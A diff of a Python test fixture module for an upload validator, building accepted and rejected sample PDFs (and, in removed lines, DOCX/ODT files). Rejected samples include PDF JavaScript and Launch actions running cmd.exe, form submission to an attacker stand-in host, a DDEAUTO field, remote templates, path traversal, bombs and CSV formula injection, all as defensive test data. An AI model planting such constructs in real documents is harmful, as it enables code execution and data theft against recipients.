@@ -1,89 +1,56 @@
 """Files that somebody may upload as a document: sound ones, and what is none or may run."""
 
-import io
-import zipfile
-
-TYPES = (
-    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
-    'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
-)
-ODT_TYPE = "application/vnd.oasis.opendocument.text"
+import zlib
 
 
-def packed(**parts):
-    file = io.BytesIO()
-    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
-        for name, content in parts.items():
-            archive.writestr(name, content)
-    return file.getvalue()
+def pdf(catalog="", *objects, trailer=""):
+    """Return a PDF with an addition to its catalog, and with objects from number 2 on."""
+    numbered = enumerate([f"<</Type/Catalog{catalog}>>", *objects], 1)
+    body = b"".join(b"%d 0 obj%s endobj\n" % (n, _bytes(o)) for n, o in numbered)
+    return b"%PDF-1.7\n" + body + f"trailer<</Root 1 0 R{trailer}>>\n%%EOF".encode()
 
 
-def docx(**parts):
-    return packed(**{"[Content_Types].xml": TYPES, "word/document.xml": "<w/>"} | parts)
-
-
-def odt(**parts):
-    return packed(**{"mimetype": ODT_TYPE, "content.xml": "<o/>"} | parts)
-
-
-def encrypted(content):
-    """Return an archive whose parts say that they are encrypted."""
-    own = bytearray(content)
-    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
-        start = own.find(mark)
-        while start >= 0:
-            own[start + place] |= 1
-            start = own.find(mark, start + 4)
-    return bytes(own)
-
-
-def related(kind, mode="External", encoding="utf-8", target="https://evil.invalid/x"):
-    """Return a DOCX with a relationship, and how it may be written."""
-    xml = (
-        f'<?xml version="1.0" encoding="{encoding}"?><Relationships xmlns="r"><Relationship '
-        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
-        f'Target="{target}" TargetMode="{mode}"/></Relationships>'
-    )
-    return docx(**{"word/_rels/document.xml.rels": xml.encode(encoding)})
-
-
-def damaged(content):
-    """Return an archive of which one compressed part cannot be unpacked."""
-    place = content.find(TYPES_NAME) + len(TYPES_NAME) + 8
-    return (
-        content[:place]
-        + bytes(byte ^ 255 for byte in content[place : place + 8])
-        + content[place + 8 :]
+def stream(content, dictionary="", packed=None, filters="/FlateDecode"):
+    packed = zlib.compress(_bytes(content)) if packed is None else packed
+    return b"<<%s/Filter%s/Length %d>>\nstream\n%s\nendstream" % (
+        dictionary.encode(),
+        filters.encode(),
+        len(packed),
+        packed,
     )
 
 
-def field(instruction):
-    """Return a DOCX whose text has a field."""
-    xml = f'<w:d xmlns:w="w"><w:instrText>{instruction}</w:instrText></w:d>'
-    return docx(**{"word/document.xml": xml})
+def object_stream(*objects, number=8, dictionary="", **kwargs):
+    """Return an object stream with objects from a number on."""
+    numbers, body = [], ""
+    for own, content in enumerate(objects, number):
+        numbers.append(f"{own} {len(body)}")
+        body += content + " "
+    header = " ".join(numbers) + " "
+    own = f"/Type/ObjStm/N {len(objects)}/First {len(header)}{dictionary}"
+    return stream(header + body, own, **kwargs)
 
 
-def linked(element, href):
-    """Return an ODT with an element that has an address."""
-    names = 'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:t="t"'
-    return odt(**{"content.xml": f'<o {names}><t:{element} xlink:href="{href}"/></o>'})
+def _bytes(content):
+    return content if isinstance(content, bytes) else content.encode()
 
 
-MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
-TYPES_NAME = b"[Content_Types].xml"
 SCRIPT = "<script>window.pwned=1</script>"
 PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
+ARCHIVE = b"PK\x03\x04" + bytes(100)
 
 SOUND = {
     "verdict.pdf": PDF,
     "VERDICT.PDF": PDF,
-    "letter.docx": docx(),
-    "letter.odt": odt(),
-    "link.docx": related("hyperlink"),
-    "picture.docx": related("image", mode="Internal", target="media/image1.png"),
-    "page-number.docx": field("PAGE \\* MERGEFORMAT"),
-    "link.odt": linked("a", "https://example.org/"),
-    "picture.odt": linked("image", "Pictures/1.png"),
+    "link.pdf": pdf("", "<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://example.org/)>>>>"),
+    "first-page.pdf": pdf("/OpenAction[2 0 R /XYZ null null 0]"),
+    "first-page-by-action.pdf": pdf("/OpenAction<</Type/Action /S/GoTo /D[2 0 R /Fit]>>"),
+    "first-page-elsewhere.pdf": pdf("/OpenAction 2 0 R", "<< /S /GoTo /D [1 0 R /Fit] >>"),
+    "first-page-packed.pdf": pdf(
+        "/OpenAction 9 0 R",
+        object_stream("<</S/URI/URI(https://example.org/)>>", "<</S/GoTo/D[1 0 R/Fit]>>"),
+    ),
+    "drawing.pdf": pdf("", stream("0.1 w /Launcher gs (JavaScript) Tj"), stream(bytes(10_000))),
     "notes.txt": "Вельмішаноўны спадар, 1 < 2 & 3 > 2".encode(),
     "notes-with-mark.txt": "\ufeffЗаметки".encode(),
     "prisoners.csv": "name,day,sum\nБяляцкі,2021-07-14,-5\nX,,+375 17 222\n".encode(),
@@ -127,48 +94,52 @@ REFUSED = {
     "sep.csv": b"sep=!\nname!=1+1\n",
     "wide.csv": "name\n＝1+1\n".encode(),
     "page.csv": SCRIPT.encode(),
-    "macros.docm": docx(**{"word/vbaProject.bin": b"x"}),
-    "macros.docx": docx(**{"word/vbaProject.bin": b"x"}),
-    "macros-elsewhere.docx": docx(**{"customXml/VBAPROJECT.BIN": b"x"}),
-    "macro-named.docx": docx(
-        **{"[Content_Types].xml": TYPES.replace("application/xml", MACRO_TYPE)}
-    ),
-    "template.docx": docx(
-        **{
-            "word/_rels/settings.xml.rels": '<Relationship Type="…/attachedTemplate" '
-            'Target="https://evil.invalid/x.dotm" TargetMode="External"/>'
-        }
-    ),
-    "template-utf-16.docx": related("attachedTemplate", encoding="utf-16"),
-    "template-spelt.docx": related("attached&#84;emplate"),
-    "picture-elsewhere.docx": related("image"),
-    "frame-elsewhere.docx": related("frame"),
-    "page-inside.docx": related("aFChunk", mode="Internal", target="x.htm"),
-    "field-fetches.docx": field("INCLUDEPICTURE https://evil.invalid/x.png"),
-    "field-runs.docx": field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"),
-    "entities.docx": docx(**{"word/document.xml": "<!DOCTYPE d [<!ENTITY a 'x'>]><w>&a;</w>"}),
-    "broken.docx": docx(**{"word/document.xml": "<w>"}),
-    "damaged.docx": damaged(docx()),
-    "picture-elsewhere.odt": linked("image", "https://evil.invalid/x.png"),
-    "script-link.odt": linked("a", "vnd.sun.star.script:x"),
-    "listener.odt": odt(**{"content.xml": '<o xmlns:s="s"><s:event-listener/></o>'}),
-    "object.docx": docx(**{"word/embeddings/oleObject1.bin": b"x"}),
-    "control.docx": docx(**{"word/activeX/activeX1.xml": b"x"}),
-    "program.docx": docx(**{"word/media/x.exe": b"MZ"}),
-    "climbing.docx": docx(**{"../../evil": b"x"}),
-    "encrypted.docx": encrypted(docx()),
-    "archive.docx": packed(**{"a.txt": "x"}),
-    "text.docx": b"Only text",
-    "truncated.docx": docx()[:100],
-    "bomb.docx": docx(**{"word/media/x.png": bytes(210 * 2**20)}),
-    "many.docx": docx(**{f"word/media/{number}.png": b"" for number in range(2_100)}),
-    "old.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),
-    "old.docx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),
-    "sheet.odt": odt(mimetype="application/vnd.oasis.opendocument.spreadsheet"),
-    "macros.odt": odt(**{"Basic/Standard/Module1.xml": "x"}),
-    "scripts.odt": odt(**{"Scripts/python/x.py": "x"}),
-    "letter-named.pdf": docx(),
+    "letter.docx": ARCHIVE,
+    "letter.odt": ARCHIVE,
+    "letter.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),
+    "letter.rtf": b"{\\rtf1 x}",
+    "letter-named.pdf": ARCHIVE,
     "pdf-named.docx": PDF,
+    "script.pdf": pdf("/OpenAction 2 0 R", "<</S/JavaScript/JS(app.alert\\(1\\))>>"),
+    "script-spelt.pdf": pdf("", "<</S/J#61vaScript/JS(x)>>"),
+    "script-by-name.pdf": pdf("/Names<</JavaScript 2 0 R>>"),
+    "script-packed.pdf": pdf("", object_stream("<</S/JavaScript/JS(x)>>")),
+    "script-packed-and-spelt.pdf": pdf("", object_stream("<</S/JavaScri#70t/JS(x)>>")),
+    "script-packed-as-nothing.pdf": pdf("", stream("8 0 <</S/JavaScript/JS(x)>>")),
+    "script-after-a-comment.pdf": pdf("", stream("%x\n8 0 <</S/JavaScript/JS(x)>>")),
+    "type-spelt.pdf": pdf("", stream(b"x", "/Type/Obj#53tm", packed=b"x")),
+    "packed-otherwise.pdf": pdf("", object_stream("x", filters="/LZWDecode")),
+    "packed-again.pdf": pdf("", object_stream("x", filters="[/FlateDecode/AHx]")),
+    "packed-in-two-ways.pdf": pdf("", object_stream("x", dictionary="/Filter/AHx")),
+    "packed-by-rows.pdf": pdf("", object_stream("x", dictionary="/DecodeParms 7 0 R")),
+    "string-in-dictionary.pdf": pdf("", object_stream("x", dictionary="/X(>>stream)")),
+    "damaged.pdf": pdf("", object_stream("x", packed=b"x\x9c damaged")),
+    "starts-a-program.pdf": pdf("", "<</S/Launch/F(cmd.exe)>>"),
+    "sends-a-form.pdf": pdf("", "<</S/SubmitForm/F(https://evil.invalid/)>>"),
+    "reads-a-form.pdf": pdf("", "<</S/ImportData/F(x)>>"),
+    "other-file.pdf": pdf("", "<</S/GoToR/F(\\\\\\\\evil.invalid\\\\x)>>"),
+    "file-inside.pdf": pdf("", "<</EF 3 0 R/Type/EmbeddedFile>>"),
+    "player.pdf": pdf("", "<</Subtype/RichMedia>>"),
+    "form-of-xml.pdf": pdf("/AcroForm<</XFA 3 0 R>>"),
+    "page-opened.pdf": pdf("/AA<</WC 2 0 R>>"),
+    "page-opened-elsewhere.pdf": pdf("", "<</Type/Page/AA 3 0 R>>"),
+    "page-opened-after-a-comment.pdf": pdf("", "<</Type/Page/AA%" + "x" * 300 + "\n<<>>>>"),
+    "address-opened.pdf": pdf("/OpenAction<</S/URI/URI(https://evil.invalid/)>>"),
+    "address-opened-elsewhere.pdf": pdf("/OpenAction 2 0 R", "<</S/URI/URI(https://x.invalid/)>>"),
+    "address-opened-packed.pdf": pdf(
+        "/OpenAction 9 0 R",
+        object_stream("<</S/GoTo/D[1 0 R/Fit]>>", "<</S/URI/URI(https://evil.invalid/)>>"),
+    ),
+    "address-opened-next.pdf": pdf("/OpenAction<</S/GoTo/D[1 0 R]/Next 2 0 R>>"),
+    "address-in-a-later-version.pdf": pdf("/OpenAction 2 0 R", "[1 0 R/Fit]")
+    + b"2 %x\n0 obj<</S/URI/URI(https://evil.invalid/)>>endobj",
+    "nothing-opened.pdf": pdf("/OpenAction 7 0 R"),
+    "many-opened.pdf": pdf("".join(f"/OpenAction {n} 0 R" for n in range(2, 7)), *["[]"] * 5),
+    "locked.pdf": pdf(trailer="/Encrypt 3 0 R"),
+    "bomb.pdf": pdf("", object_stream(" " * 70 * 2**20)),
+    "many-streams.pdf": pdf() + b"stream\nendstream " * 50_100,
+    "many-escapes.pdf": pdf() + b"/#41" * 50_100,
+    "without-end.pdf": pdf() + b"stream\n",
     "picture.pdf": b"\x89PNG\r\n\x1a\n",
     "no-extension": PDF,
     "large.pdf": PDF + bytes(20 * 2**20),
